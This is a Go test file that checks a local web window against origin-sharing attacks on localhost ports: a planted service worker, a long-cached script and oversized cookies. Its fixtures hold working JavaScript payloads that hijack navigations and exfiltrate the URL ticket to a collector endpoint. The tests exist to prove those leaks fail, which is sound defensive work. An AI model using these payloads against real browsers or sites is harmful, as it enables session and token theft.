package windowtest

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"windsock/probe/probetest"
)

// plantedPorts is how many ports somebody had before the window, and collectorPort
// where they collect what they get by that.
const (
	plantedPorts  = 16
	collectorPort = 44000
)

// ownNetwork runs a test again, alone, in a network where all ports are free, and
// reports whether it runs there.
func ownNetwork(t *testing.T) bool {
	t.Helper()
	const inside = "WINDSOCK_TEST_NETWORK"
	if os.Getenv(inside) != "" {
		return true
	}
	probetest.NeedTools(t, "ip", "chromium")
	probetest.NeedNetworks(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "unshare", "--net", "sh", "-ec", `ip link set lo up; exec "$@"`, "sh",
		self, "-test.run=^"+t.Name()+"$", "-test.v")
	cmd.Env = append(os.Environ(), inside+"=1")
	if out, err := cmd.CombinedOutput(); err != nil || !bytes.Contains(out, []byte("--- PASS: "+t.Name()+" ")) {
		t.Errorf("%v\n%s", err, out)
	}
	return false
}

// freePorts has the kernel give out these ports alone, as if a stranger had taken all
// others.
func freePorts(t *testing.T, first, last int) {
	t.Helper()
	if err := os.WriteFile("/proc/sys/net/ipv4/ip_local_port_range", fmt.Appendf(nil, "%d %d", first, last), 0); err != nil {
		t.Fatal(err)
	}
}

// stranger serves a page on the ports that leaves something behind in the browser,
// and collects what that finds later.
type stranger struct {
	page, worker, script string

	mu   sync.Mutex // guards loot
	loot []string
}

func (s *stranger) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	answer := func(kind, text string) {
		w.Header().Set("Content-Type", kind)
		_, _ = io.WriteString(w, text) // a lost client is ignored
	}
	switch r.URL.Path {
	case "/":
		answer("text/html", s.page)
	case "/worker.js":
		answer("text/javascript", s.worker)
	case "/assets/boot.js":
		w.Header().Set("Cache-Control", "public, max-age=31536000, immutable")
		answer("text/javascript", s.script)
	case "/loot":
		s.mu.Lock()
		defer s.mu.Unlock()
		s.loot = append(s.loot, r.URL.RawQuery)
	default:
		w.WriteHeader(http.StatusNotFound)
	}
}

func (s *stranger) got() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.loot)
}

// listen has the stranger serve a port, until the returned function is called.
func (s *stranger) listen(t *testing.T, port int) (letGo func()) {
	t.Helper()
	l, err := net.Listen("tcp4", net.JoinHostPort("127.0.0.1", strconv.Itoa(port)))
	if err != nil {
		t.Fatal(err)
	}
	// A connection that ends in order would hold its port for a minute.
	server := &http.Server{Handler: s, ConnContext: func(ctx context.Context, c net.Conn) context.Context {
		_ = c.(*net.TCPConn).SetLinger(0)
		return ctx
	}}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = server.Serve(l) // ends with letGo
	}()
	letGo = sync.OnceFunc(func() {
		_ = server.Close()
		<-done
	})
	t.Cleanup(letGo)
	return letGo
}

// TestPlanted: an earlier page on a port of 127.0.0.1 or localhost may have left a
// worker or a cached script there, which the browser keeps by origin. The window gets
// such a port, and neither its ticket nor its session leaks.
func TestPlanted(t *testing.T) { //nolint:paralleltest // it changes the network's ports
	if !ownNetwork(t) {
		return
	}
	steal := fmt.Sprintf("http://127.0.0.1:%d/loot?", collectorPort)
	tests := []struct {
		name     string
		first    int // of the ports
		stranger *stranger
	}{
		// It answers in the server's place, and comes in with the ticket.
		{"worker", 40000, &stranger{
			page: "<!doctype html><script>navigator.serviceWorker.register('/worker.js')" +
				".then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted'; })</script>",
			worker: "self.addEventListener('install', () => self.skipWaiting());" +
				"self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));" +
				"self.addEventListener('fetch', (e) => { if (e.request.mode === 'navigate') {" +
				"e.respondWith(new Response(`<main><section></section></main><script>fetch('/enter', {method: 'POST', body: new URLSearchParams({t: location.hash.slice(1)})})" +
				".then((r) => fetch('" + steal + "' + r.status + location.hash.slice(1), {mode: 'no-cors'}))</scr` + `ipt>`, {headers: {'Content-Type': 'text/html'}})); } });",
		}},
		// It runs in the window's own page. It sends its findings by a navigation, which
		// no policy stops.
		{"script", 41000, &stranger{
			page:   "<!doctype html><script src='/assets/boot.js'></script>",
			script: "if (location.hash) { location.href = '" + steal + "' + location.hash.slice(1) } else { document.title = 'planted' }",
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := tt.stranger
			defer s.listen(t, collectorPort)()
			freePorts(t, 45000, 60999) // the browser's own connections are not in the way
			b, _ := ownBrowser(t)
			for port := tt.first; port < tt.first+plantedPorts; port++ {
				letGo := s.listen(t, port)
				for _, host := range []string{"127.0.0.1", "localhost"} {
					b.do(navigate("http://" + net.JoinHostPort(host, strconv.Itoa(port)) + "/"))
					b.until("document.title === 'planted'")
				}
				letGo()
			}
			b.do(navigate("about:blank"))
			freePorts(t, tt.first, tt.first+plantedPorts-1)
			p := start(t, "teams_credits", "prompt")
			if u, err := url.Parse(p.address); err != nil || u.Port() < strconv.Itoa(tt.first) || u.Port() >= strconv.Itoa(tt.first+plantedPorts) {
				t.Fatalf("the window is at %s, %v", p.address, err)
			}
			b.do(navigate(p.file))
			text := ""
			for deadline := time.Now().Add(patience); !strings.Contains(text, "Prompt credits"); <-time.After(20 * time.Millisecond) {
				text, _ = evaluate[string](b, "document.body.innerText") // which fails while the page goes to another
				if got := s.got(); len(got) > 0 || time.Now().After(deadline) {
					t.Fatalf("the stranger has %q, the page says:\n%s", got, text)
				}
			}
			if got := s.got(); len(got) > 0 {
				t.Errorf("the stranger has %q", got)
			}
		})
	}
}

// TestLargeCookies: a browser sends the cookies of a host to all of its ports, and a
// page on another one could set more of them than a server takes.
func TestLargeCookies(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	set := "<!doctype html><script>for (let i = 0; i < 16; i++) { document.cookie = `big${i}=${'x'.repeat(4000)}; max-age=1000000` }; document.title = 'planted'</script>"
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(l.Addr().String())
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	n, err := strconv.Atoi(port)
	if err != nil {
		t.Fatal(err)
	}
	(&stranger{page: set}).listen(t, n)
	for _, host := range []string{"127.0.0.1", "localhost"} {
		b.do(navigate("http://" + net.JoinHostPort(host, port) + "/"))
		b.until("document.title === 'planted' && document.cookie.length > 60000")
	}
	p := start(t, "teams_credits", "usage")
	b.enter(p)
	b.shows(".meter", "453 of 500 left")
}
